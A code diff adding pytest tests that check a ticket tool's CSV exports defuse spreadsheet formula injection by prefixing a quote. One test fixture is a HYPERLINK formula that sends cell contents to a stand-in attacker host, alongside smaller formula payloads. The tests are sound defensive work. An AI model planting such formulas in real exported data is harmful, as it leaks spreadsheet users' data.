@@ -10,6 +10,7 @@ from sqlalchemy import func, select
 from bot.db import make_engine
 from bot.models import OutboxMessage
 from bot.sessions import session_factory
+from bot.tickets.text import csv_bytes
 from tests.support.webhook_receiver import WebhookReceiver
 from tests.tickets.conftest import ok
 
@@ -237,3 +238,30 @@ def test_closed_on_is_the_facility_date(loanwatch, clock) -> None:
     ok(loanwatch("ticket close T-1 --resolution done"))
     status, _, err = loanwatch("ticket close T-1 --resolution again")
     assert (status, err.strip()) == (2, "loanwatch: error: T-1 was closed already on 2026-12-07")
+
+
+def test_export_tickets_csv_defuses_formulas_typed_into_a_ticket(loanwatch, missing_bill) -> None:
+    """A subject or case number typed as a formula is text in the CSV (a leading '), as in
+    Slack's alert CSV; the JSON keeps it as typed, and plain numbers stay numbers."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    ok(loanwatch(f"ticket open jiebei-main --subject '{formula}'"))
+    ok(loanwatch("ticket sent T-1"))
+    ok(loanwatch("ticket reply T-1 ok --case '@SUM(A1:A9)'"))
+    ok(loanwatch("ticket close T-1 --resolution '-1+1'"))
+    [row] = list(csv.DictReader(io.StringIO(ok(loanwatch("export tickets --format csv")))))
+    assert (row["subject"], row["case_ref"], row["resolution"]) == (
+        "'" + formula,
+        "'@SUM(A1:A9)",
+        "'-1+1",
+    )
+    assert row["follow_ups"] == "0"
+    [ticket] = _tickets(loanwatch)
+    assert ticket["subject"] == formula
+
+
+def test_the_usage_records_csv_defuses_formulas() -> None:
+    """The records file (mailed, uploaded, saved with --csv): the same defusing, signed amounts
+    kept as numbers."""
+    data = csv_bytes(["说明", "金额"], [["=1+1", "-1662.57"], ["\tcmd", "+5"], ["ok", "1"]])
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+    assert rows[1:] == [["'=1+1", "-1662.57"], ["'\tcmd", "+5"], ["ok", "1"]]
